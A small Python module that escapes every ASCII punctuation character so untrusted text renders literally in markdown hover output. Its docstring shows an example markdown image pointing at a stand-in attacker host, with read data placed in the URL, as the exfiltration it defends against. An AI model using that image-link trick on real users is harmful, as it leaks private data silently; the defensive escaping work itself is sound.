"""Text from files a run could have written, put in markdown as the text it is.

A run without network can still write a script, an inputs file or a declared schema whose
words the server shows on hover, in markdown the editor renders: an image there
(`![x](https://attacker.example/?d=...)`), its address holding what the run read, is fetched
the moment the user hovers. Every ASCII punctuation character of such text is escaped with a
backslash (CommonMark reads any of them so as itself): no link, image, HTML, emphasis or
heading can come of it.
"""

from __future__ import annotations

import re
import string

_PUNCTUATION = re.compile("[" + re.escape(string.punctuation) + "]")


def as_text(text: str) -> str:
    """`text`, to be read by a markdown renderer as exactly these characters."""
    return _PUNCTUATION.sub(lambda match: "\\" + match[0], text)
